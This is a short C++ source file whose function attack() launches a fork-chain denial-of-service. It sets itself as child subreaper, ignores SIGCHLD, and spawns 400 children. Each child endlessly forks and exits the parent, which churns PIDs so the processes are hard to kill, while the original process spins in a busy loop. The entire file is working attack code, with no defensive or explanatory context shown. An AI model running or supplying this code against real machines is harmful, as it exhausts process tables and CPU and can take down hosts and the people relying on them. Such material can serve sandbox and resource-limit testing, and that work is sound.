#include <sched.h>
#include <sys/prctl.h>
#include <unistd.h>
#include <csignal>

static void chain() {
    for (;;) {
        const pid_t child = ::fork();
        if (child > 0) ::_exit(0);
        if (child < 0) ::sched_yield();
    }
}

void attack() {
    ::prctl(PR_SET_CHILD_SUBREAPER, 1);
    ::signal(SIGCHLD, SIG_IGN);
    for (int i = 0; i < 400; ++i)
        if (::fork() == 0) chain();
    for (volatile int i = 0;; i = i + 1) {
    }
}
